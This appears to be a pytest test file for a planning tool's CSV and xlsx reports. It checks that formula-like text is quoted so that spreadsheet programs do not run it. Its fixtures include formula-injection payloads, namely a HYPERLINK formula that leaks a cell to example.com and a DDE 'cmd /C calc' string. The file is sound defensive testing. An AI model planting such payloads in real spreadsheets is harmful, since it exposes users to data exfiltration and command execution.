"""Spreadsheets get data, never formulas: the CSV and xlsx reports, and import of the CSV."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ipplan.files import formulas
from ipplan.reports import tidy
from tests.conftest import Run, clear_recorded, load

# Text that Excel, LibreOffice or Google Sheets would run, one per prefix OWASP names, and text
# that starts with the quote itself.
HOSTILE = {
    "=": '=HYPERLINK("http://example.com/?leak="&A1,"点击")',
    "+": "+86 10 1234 5678",
    "-": "-2+3",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "'": "'引号开头",
    "''": "''",
}


def test_each_formula_prefix_is_quoted_and_other_text_is_not() -> None:
    assert formulas.neutral("=1+1") == "'=1+1"
    assert formulas.neutral("+1") == "'+1"
    assert formulas.neutral("-1") == "'-1"
    assert formulas.neutral("@x") == "'@x"
    assert formulas.neutral("\tx") == "'\tx"
    assert formulas.neutral("\rx") == "'\rx"
    assert formulas.neutral("'x") == "''x"
    assert formulas.neutral("2022年度统计") == "2022年度统计"
    assert formulas.neutral("a=b") == "a=b"
    assert formulas.neutral("") == ""
    # a quote in front of ordinary text is the text's own
    assert formulas.literal("'hello") == "'hello"
    assert formulas.literal("'=1") == "=1"
    assert formulas.literal("''x") == "'x"


@settings(deadline=None)
@given(st.text())
def test_any_text_round_trips_and_never_starts_a_formula(value: str) -> None:
    cell = formulas.neutral(value)
    assert not cell.startswith(formulas.TRIGGERS)
    assert formulas.literal(cell) == value


@settings(deadline=None)
@given(st.sampled_from([*formulas.TRIGGERS, "'"]), st.text())
def test_every_prefix_through_a_csv_file_comes_back_exactly(prefix: str, rest: str) -> None:
    value = prefix + rest
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow([tidy.cell(value), tidy.cell(-5)])
    (cell, number) = next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert cell.startswith("'")
    assert formulas.literal(cell) == value
    assert number == "-5"  # a number stays a number


@pytest.fixture
def hostile_plan(cli: Run, plan_dir: Path) -> Path:
    """A plan whose notes, sources and lead unit begin as spreadsheet formulas do."""
    data = str(plan_dir)
    texts = list(HOSTILE.values())
    rows = [
        ("2022", "practitioners", "29000"),
        ("2023", "practitioners", "31000"),
        ("2023", "agency_rate", "80.1"),
    ]
    for (year, key, value), source, note in zip(rows, texts[0::2], texts[1::2], strict=True):
        result = cli("record", year, key, value, "--source", source, "--note", note, "--data", data)
        assert result.exit_code == 0, result.output
    result = cli("task", "talent-training", "--lead", "=1+1", "--note", "@cmd", "--data", data)
    assert result.exit_code == 0, result.output
    return plan_dir


def test_csv_report_quotes_formula_text_and_keeps_numbers(
    cli: Run, hostile_plan: Path, tmp_path: Path
) -> None:
    out = tmp_path / "report.csv"
    assert cli("report", "-f", "csv", "-o", str(out), "--data", str(hostile_plan)).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    by = {(r["指标键"], r["年份"]): r for r in rows}
    first = by[("practitioners", "2022")]
    assert first["来源"] == "'" + HOSTILE["="]
    assert first["备注"] == "'" + HOSTILE["+"]
    assert first["数值"] == "29000"
    assert by[("practitioners", "2023")]["来源"] == "'-2+3"
    assert by[("agency_rate", "2023")]["备注"] == "'''"
    assert by[("agency_rate", "2023")]["数值"] == "80.1"
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(formulas.TRIGGERS), (column, value)


def test_import_of_an_ipplan_csv_restores_the_exact_text(
    cli: Run, hostile_plan: Path, tmp_path: Path
) -> None:
    out = tmp_path / "report.csv"
    cli("report", "-f", "csv", "-o", str(out), "--data", str(hostile_plan))
    fresh = tmp_path / "fresh"
    assert cli("init", str(fresh)).exit_code == 0
    clear_recorded(fresh)  # the shipped figures, which the report's values replace
    result = cli("import", str(out), "--data", str(fresh))
    assert result.exit_code == 0, result.output
    before, after = load(hostile_plan), load(fresh)
    for key in before.actuals:
        assert [(a.year, a.value, a.source, a.note) for a in after.actuals[key]] == [
            (a.year, a.value, a.source, a.note) for a in before.actuals[key]
        ]
    notes = {a.note for series in after.actuals.values() for a in series}
    assert {HOSTILE["+"], HOSTILE["@"], HOSTILE["''"]} <= notes


def test_xlsx_report_holds_text_never_formulas(
    cli: Run, hostile_plan: Path, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "report.xlsx"
    assert cli("report", "-f", "xlsx", "-o", str(out), "--data", str(hostile_plan)).exit_code == 0
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = load_workbook(out)
    actions = book["行动"]
    header = [c.value for c in actions[1]]
    row = next(r for r in actions.iter_rows(2) if r[1].value == "talent-training")
    lead = row[header.index("牵头单位")]
    note = row[header.index("最近进展")]
    assert (lead.value, lead.data_type, lead.quotePrefix) == ("=1+1", "s", True)
    assert (note.value, note.data_type, note.quotePrefix) == ("@cmd", "s", True)
    sheet = book["指标"]
    header = [c.value for c in sheet[1]]
    practitioners = next(r for r in sheet.iter_rows(2) if r[1].value == "practitioners")
    actual = practitioners[header.index("实际 2023")]
    assert (actual.value, actual.data_type) == (31000, "n")
    gap = practitioners[header.index("还差（负数为已超出）")]
    assert gap.data_type == "n" and gap.value == 9000


# XML reads a carriage return as a line feed: a report never holds one, since validation refuses
# it in the data, so the workbook's round trip is tested on text without it; nor a lone
# surrogate, which no UTF-8 file can hold.
CELL_TEXT = st.text(
    st.characters(blacklist_characters="\r", blacklist_categories=("Cs",)), min_size=1
)


@settings(deadline=None)
@given(st.lists(st.one_of(CELL_TEXT, st.sampled_from(list(HOSTILE.values()))), max_size=5))
def test_any_text_in_a_workbook_reads_back_as_that_text(values: list[str]) -> None:
    from openpyxl import Workbook, load_workbook
    from openpyxl.utils.exceptions import IllegalCharacterError

    from ipplan.reports.workbook import _finish

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    try:
        sheet.append(["header"])
        sheet.append(values or ["x"])
    except IllegalCharacterError:
        return  # control characters never reach a report: validation refuses them first
    _finish(sheet)  # the header is its first row
    buffer = io.BytesIO()
    book.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue()))
    assert read.active is not None
    cells = next(iter(read.active.iter_rows(2)))
    for cell, value in zip(cells, values or ["x"], strict=True):
        assert (cell.value, cell.data_type) == (value, "s")
        assert cell.quotePrefix == formulas.needs_quote(value)
